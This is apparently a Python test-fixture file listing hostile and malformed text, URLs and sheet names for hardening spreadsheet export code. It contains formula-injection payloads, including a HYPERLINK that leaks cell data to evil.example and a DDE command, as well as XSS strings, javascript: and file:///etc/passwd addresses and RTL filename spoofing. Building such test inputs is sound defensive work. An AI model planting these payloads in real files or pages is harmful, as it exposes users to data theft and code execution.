"""Text and addresses as a hostile or broken portal writes them."""

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
)

TEXTS = (
    *FORMULAS,
    "甲" * 40_000,
    "😀" * 20_000,
    "零\x00一\x01二\x0b三\x1f四",
    "报告\u202excod.exe",
    "半个\ud83d字\udc00符",
    "\ufffe\uffff",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<r><t>&</t></r>",
    "<r>not markup</r>",
    "_x000D__x0041_",
    "{{ 7*7 }}{% raw %}",
    "&amp;&lt;",
    "一行\r\n二行\n三行",
    '引"号,逗号;分号',
    "]]>",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/",
    'http://a.gov.cn/" onmouseover="alert(1)',
    "http://a.gov.cn/<script>",
    "http://a.gov.cn/\u202egpj.exe",
    "http://[::1",
    "http://",
    "internal:'问题台账'!A1",
    "external:c:\\x.xls",
    "mailto:a@b.cn",
    "http://a.gov.cn:99999/",
    "=1+1",
    "",
)

SAFE_ADDRESSES = (
    "http://a.gov.cn/",
    "https://a.gov.cn:8443/政务/列表.html?p=1&q=%E4%B8%AD#top",
    "HTTP://A.GOV.CN/x",
    "http://[2001:db8::1]/",
)

SHEET_NAMES = (
    "", "'", "a/b:c*d?e[f]g\\h", "History", "=1+1", "x" * 200, "评分\x00表", "😀" * 40, "'引'", "\u202e", "A", "a",
    *(f"{'很长的考核细则名称' * 5}{n}" for n in range(90)),
)  # fmt: skip
